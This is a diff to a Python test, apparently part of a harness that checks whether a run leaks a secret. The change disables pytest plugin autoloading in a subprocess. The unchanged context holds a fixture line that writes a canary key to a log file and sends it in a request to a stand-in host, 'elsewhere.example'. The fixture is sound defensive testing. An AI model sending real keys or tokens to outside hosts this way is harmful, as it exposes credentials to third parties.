@@ -99,9 +99,11 @@ def test_a_run_that_leaves_a_key_fails(tmp_path):
         "    (tmp_path / 'log.txt').write_text(canary.KEY)\n"
         "    httpx.Client(transport=answering).get('https://elsewhere.example', params={'key': canary.KEY})\n"
     )
+    # the plugins of the machine are not what this is about, and take seconds to load
+    environment = {**os.environ, "PYTHONPATH": str(TESTS), "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
     done = subprocess.run(
         [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "--rootdir=.", "test_it.py"],
-        cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(TESTS)}, capture_output=True, text=True, timeout=120,
+        cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=120,
     )  # fmt: skip
     assert done.returncode == 1, done.stdout + done.stderr
     assert "1 passed, 1 error" in done.stdout
